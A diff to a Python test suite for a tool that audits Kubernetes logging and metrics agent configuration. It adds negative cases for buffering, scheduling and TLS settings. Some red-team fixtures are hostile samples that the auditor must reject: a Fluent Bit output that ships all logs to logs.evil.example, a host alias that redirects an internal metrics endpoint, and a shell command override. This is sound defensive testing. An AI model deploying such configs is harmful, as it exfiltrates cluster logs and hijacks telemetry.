@@ -49,11 +49,35 @@ AUDIT = {
                             "minAvailable", "values.podDisruptionBudget.minAvailable must be an integer >= 1"),
     # third red team: values that re-point or replace an agent past the rendered-config checks
     "fluent-bit-second-output": ({"fluent-bit": {"values": {"config": {"filters": (
-        "[FILTER]\n    Name kubernetes\n    Match kube.*\n[OUTPUT]\n    Name http\n    Match *\n"
+        "[FILTER]\n    Name kubernetes\n    Match kube.*\n    Labels On\n[FILTER]\n    Name lua\n"
+        "    script /fluent-bit/scripts/starform-tenant.lua\n    call starform_tenant\n[OUTPUT]\n    Name http\n    Match *\n"
         "    Host logs.evil.example\n")}}}}, "filters", "values.config.filters holds an [OUTPUT] section"),
     "vmagent-host-alias": ({"vmagent": {"values": {"hostAliases": [
         {"ip": "203.0.113.66", "hostnames": ["victoria-metrics.nyc3.starform.internal"]}]}}},
         "hostAliases", "values.hostAliases must not be set below base/"),
+    # issue 14, "nothing lost": Fluent Bit and vmagent buffer on disk, bounded, acknowledged
+    "fluent-bit-chunks-fill-the-limit": ({"fluent-bit": {"values": {"config": {"service": (
+        "[SERVICE]\n    storage.path /var/fluent-bit/state/\n    storage.max_chunks_up 128\n")}}}},
+        "service", "storage.max_chunks_up 128 (x 2 MiB) + storage.backlog.mem_limit must stay within half"),
+    "fluent-bit-memory-buffer": ({"fluent-bit": {"values": {"config": {"inputs": (
+        "[INPUT]\n    Name tail\n    Path /var/log/containers/*.log\n")}}}},
+        "inputs", "every [INPUT] needs storage.type filesystem; not: tail"),
+    "fluent-bit-no-tenant-filter": ({"fluent-bit": {"values": {"config": {"filters": (
+        "[FILTER]\n    Name kubernetes\n    Match kube.*\n    Labels On\n")}}}},
+        "filters", "values.config.filters must run the kubernetes filter (Labels On) and then the lua filter"),
+    "fluent-bit-some-taints": ({"fluent-bit": {"values": {"tolerations": [
+        {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}]}}},
+        "tolerations", "values.tolerations must hold a toleration {operator: Exists}"),
+    "fluent-bit-low-priority": ({"fluent-bit": {"values": {"priorityClassName": "low"}}},
+                                "priorityClassName", "values.priorityClassName must be 'system-node-critical'"),
+    "vmagent-deployment-mode": ({"vmagent": {"values": {"mode": "deployment"}}},
+                                "mode", "values.mode must be 'statefulSet'"),
+    "vmagent-queue-in-emptydir": ({"vmagent": {"values": {"persistentVolume": {"enabled": False}}}},
+                                  "enabled", "values.persistentVolume.enabled must be true"),
+    "vmagent-named-claim": ({"vmagent": {"values": {"persistentVolume": {"name": "queue"}}}},
+                            "name", "values.persistentVolume.name must not be set (the chart always mounts"),
+    "vmagent-cap-flag": ({"vmagent": {"values": {"extraArgs": {"remoteWrite.maxDiskUsagePerURL": "50GiB"}}}},
+                         "remoteWrite.maxDiskUsagePerURL", "values.extraArgs.remoteWrite.maxDiskUsagePerURL must not be set"),
     "alloy-own-command": ({"alloy": {"values": {"alloy": {"command": ["/bin/sh", "-c", "exec /bin/alloy run /x"]}}}},
                           "command", "values.alloy.command must not be set below base/"),
 }
@@ -114,3 +138,16 @@ def test_ksm_wildcard_accepted_only_from_chart_8_4_0(fleet_copy: Path) -> None:
     patch_components(fleet_copy, CLUSTER, {"kube-state-metrics": {"values": wildcard, "chart": {"version": "8.3.0"}}})
     found = _findings(fleet_copy)
     assert len(found) == 1 and "only from chart 8.4.0" in found[0].message and "8.3.0" in found[0].message
+
+
+def test_fleet_owned_output_without_ack_is_found_in_its_template(fleet_copy: Path) -> None:
+    rel = "base/components/fluent-bit/outputs.conf.j2"
+    template = fleet_copy / rel
+    text = template.read_text()
+    assert "    Require_ack_response On\n" in text and "    tls.verify_hostname On\n" in text
+    template.write_text(text.replace("    Require_ack_response On\n", "").replace("tls.verify_hostname On", "tls.verify_hostname Off"))
+    found = _findings(fleet_copy)
+    header = text.splitlines().index("[OUTPUT]") + 1
+    assert [(f.source.file, f.source.line) for f in found] == [(rel, header)], found
+    assert "must set require_ack_response On, tls.verify_hostname On" in found[0].message
+    assert found[0].details["clusters"] == sorted(p.name for p in (fleet_copy / "clusters").iterdir())
